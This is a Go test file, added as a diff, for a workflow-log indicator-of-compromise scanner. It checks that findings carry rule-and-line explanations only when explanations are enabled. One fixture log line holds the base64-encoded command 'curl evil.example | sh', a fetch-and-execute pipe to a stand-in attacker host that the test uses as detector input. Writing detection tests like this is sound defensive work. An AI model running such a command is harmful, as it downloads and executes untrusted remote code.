@@ -0,0 +1,49 @@
+package workflow_test
+
+import (
+	"encoding/base64"
+	"strings"
+	"testing"
+
+	"github.com/chainguard-dev/ghscan/pkg/ioc"
+	"github.com/chainguard-dev/ghscan/pkg/workflow"
+)
+
+// TestParseLogs_Explain asserts each finding names the detector's rule
+// and the line it fired on once explanations are on, and carries none
+// by default.
+func TestParseLogs_Explain(t *testing.T) {
+	t.Parallel()
+
+	pattern := `(?:^|\s+)([A-Za-z0-9+/]{8,}={0,3})`
+	custom, err := ioc.NewIOC(&ioc.Config{Name: "t", Content: []string{"0e58ed8671d6"}, Pattern: pattern})
+	if err != nil {
+		t.Fatalf("build IOC: %v", err)
+	}
+	logs := strings.Join([]string{
+		"2025-03-14T00:00:00.0000000Z checkout",
+		"2025-03-14T00:00:01.0000000Z HEAD is now at 0e58ed8671d6",
+		"2025-03-14T00:00:02.0000000Z " + base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh")),
+	}, "\n")
+
+	findings, _ := workflow.ParseLogs(newTestLogger(), logs, 1, custom)
+	for _, f := range findings {
+		if f.Explanation != "" {
+			t.Fatalf("Explanation=%q with explanations off, want none", f.Explanation)
+		}
+	}
+
+	findings, _ = workflow.ParseLogsWithOptions(newTestLogger(), logs, 1, custom, &workflow.Options{Explain: true})
+	want := []string{
+		`matched IOC content "0e58ed8671d6" at line 2`,
+		"IOC pattern " + pattern + " captured base64 that decoded as valid UTF-8 at line 3",
+	}
+	if len(findings) != len(want) {
+		t.Fatalf("findings=%+v, want %d", findings, len(want))
+	}
+	for i, f := range findings {
+		if f.Explanation != want[i] {
+			t.Errorf("finding %d Explanation=%q, want %q", i, f.Explanation, want[i])
+		}
+	}
+}